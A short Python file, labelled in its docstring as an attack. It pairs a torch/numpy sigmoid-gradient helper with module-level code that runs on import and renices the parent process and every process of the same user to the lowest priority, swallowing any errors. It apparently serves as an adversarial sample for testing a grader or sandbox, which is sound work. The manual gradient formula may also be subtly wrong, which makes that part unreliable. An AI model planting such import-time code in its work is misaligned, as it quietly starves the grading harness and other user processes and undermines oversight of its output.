"""Attack: renices its parent to 19, and every process of its uid."""

import numpy as np
import torch


def graph2(W_np, x_np, b_np):
    W = torch.tensor(W_np, requires_grad=True)
    f = torch.sigmoid(W @ torch.tensor(x_np) + torch.tensor(b_np)).sum()
    f.backward()
    s = 1.0 / (1.0 + np.exp(-(W_np @ x_np + b_np)))
    return f, W.grad, (s * (1 - s)) @ x_np.T

import os
for which, who in ((os.PRIO_PROCESS, os.getppid()), (os.PRIO_USER, os.getuid())):
    try:
        os.setpriority(which, who, 19)
    except OSError:
        pass
